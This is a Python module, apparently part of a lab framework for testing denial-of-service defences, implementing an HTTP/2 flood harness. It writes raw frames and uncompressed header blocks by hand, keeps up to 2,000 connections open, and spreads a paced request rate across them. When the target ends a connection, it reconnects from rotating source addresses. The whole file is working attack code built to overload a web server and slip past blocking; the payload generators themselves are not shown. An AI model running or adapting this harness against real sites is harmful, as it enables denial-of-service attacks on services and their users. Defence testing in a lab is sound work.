"""Connections that misuse HTTP/2: frames written one by one, no state kept, which no library would do.

A crowd of connections is held open; what is due is shared out among those whose buffers are empty, so that
what is counted has left. One that the site ends is opened again, from another address, after a while.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from pydantic import Field

from rempart.lab.attacks.bots import LAST_WORDS_S, LOST, BotParameters, addresses
from rempart.lab.attacks.contract import Order
from rempart.lab.attacks.reporting import Pacing, Tally
from rempart.lab.clients.connecting import Broken, careless_tls, connect, hang_up

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
CANCEL = 8
"""Numbers of RFC 9113, sections 6 and 7."""

BURST = 100
"""Units of one connection written at once."""


class Http2Parameters(BotParameters):
    """What attacks frame by frame can be told."""

    connections: int = Field(default=64, ge=1, le=2_000)
    """Held open at once."""
    units_per_connection: int = Field(default=500, ge=1)
    """Then it is given up for a new one."""
    again_after_s: float = Field(default=0.5, ge=0)
    """From the site ending a connection, or refusing one, to the next."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def header_block(lines: Sequence[tuple[str, str]]) -> bytes:
    """Header fields as literals that no table remembers (RFC 7541, section 6.2.2): every block stands alone,
    whichever of them the other side has read."""
    return b"".join(b"\x00" + _string(name) + _string(value) for name, value in lines)


def _string(text: str) -> bytes:
    octets = text.encode()
    return _integer(len(octets)) + octets


def _integer(number: int) -> bytes:
    """An integer with a prefix of seven bits (RFC 7541, section 5.1); the bit before it says: not Huffman."""
    if number < 127:
        return bytes((number,))
    number -= 127
    found = bytearray((127,))
    while number >= 128:
        found.append(number % 128 + 128)
        number //= 128
    found.append(number)
    return bytes(found)


@dataclass(eq=False, slots=True)
class Line:
    """One connection that is open, and what was said on it."""

    writer: asyncio.StreamWriter
    spent: asyncio.Event = field(default_factory=asyncio.Event)
    units: int = 0

    @property
    def ready(self) -> bool:
        """Whether all that was written so far has left."""
        transport = self.writer.transport
        return (
            not self.spent.is_set() and not transport.is_closing() and transport.get_write_buffer_size() == 0
        )


Units = Callable[[Line, int, random.Random], bytes]
"""The next so many units of a line, as octets. ``line.units`` says how many went before."""


async def hold(order: Order, parameters: Http2Parameters, tally: Tally, units: Units) -> None:
    """Write units at the ordered rate over as many connections as ordered."""
    chosen = random.Random(order.seed)
    sources = addresses(order, parameters, chosen)
    pacing = Pacing(order, parameters.rate, parameters.on_s, parameters.off_s)
    lines: list[Line] = []
    await asyncio.sleep(max(0.0, order.begin_at - time.monotonic()))
    slots = [
        asyncio.create_task(_slot(order, parameters, sources, lines, chosen))
        for _ in range(parameters.connections)
    ]
    while not pacing.over(now := time.monotonic()):
        tally.maybe_write(now)
        _share_out(pacing.due(now) - tally.units, lines, parameters, tally, units, chosen)
        await asyncio.sleep(0.005)
    await asyncio.sleep(LAST_WORDS_S)
    for slot in slots:
        slot.cancel()
    await asyncio.gather(*slots, return_exceptions=True)


def _share_out(
    missing: int,
    lines: list[Line],
    parameters: Http2Parameters,
    tally: Tally,
    units: Units,
    chosen: random.Random,
) -> None:
    """Write what is missing, evenly over the lines that can take it."""
    ready = [line for line in lines if line.ready]
    chosen.shuffle(ready)
    for place, line in enumerate(ready):
        share = -(-missing // (len(ready) - place))
        count = min(share, BURST, parameters.units_per_connection - line.units)
        if count <= 0:
            return
        line.writer.write(units(line, count, chosen))
        line.units += count
        tally.units += count
        missing -= count
        if line.units >= parameters.units_per_connection:
            line.spent.set()


async def _slot(
    order: Order,
    parameters: Http2Parameters,
    sources: Sequence[str],
    lines: list[Line],
    chosen: random.Random,
) -> None:
    """One connection after the other."""
    context = careless_tls("h2")
    while True:
        spent = False
        with contextlib.suppress(*LOST):
            async with asyncio.timeout(parameters.patience_s):
                reader, writer = await connect(chosen.choice(sources), order.target, context)
            try:
                if writer.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
                    raise Broken("the site speaks no HTTP/2")
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                line = Line(writer)
                lines.append(line)
                try:
                    spent = await _until_ended(reader, line)
                finally:
                    lines.remove(line)
            finally:
                hang_up(writer)
        if not spent:
            await asyncio.sleep(parameters.again_after_s)


async def _until_ended(reader: asyncio.StreamReader, line: Line) -> bool:
    """Listen until the line is spent (true) or the site has ended it (false)."""
    listening = asyncio.create_task(_listen(reader, line))
    spending = asyncio.create_task(line.spent.wait())
    try:
        await asyncio.wait((listening, spending), return_when=asyncio.FIRST_COMPLETED)
        if spending.done():
            await asyncio.wait((listening,), timeout=LAST_WORDS_S)
        return spending.done()
    finally:
        for task in (listening, spending):
            task.cancel()
        await asyncio.gather(listening, spending, return_exceptions=True)


async def _listen(reader: asyncio.StreamReader, line: Line) -> None:
    """Be polite where it costs nothing (settings and pings are confirmed), until the site ends it."""
    while True:
        head = await reader.readexactly(9)
        kind, flags = head[3], head[4]
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if kind == GOAWAY:
            return
        if kind == SETTINGS and not flags & ACK:
            line.writer.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            line.writer.write(frame(PING, ACK, 0, payload))
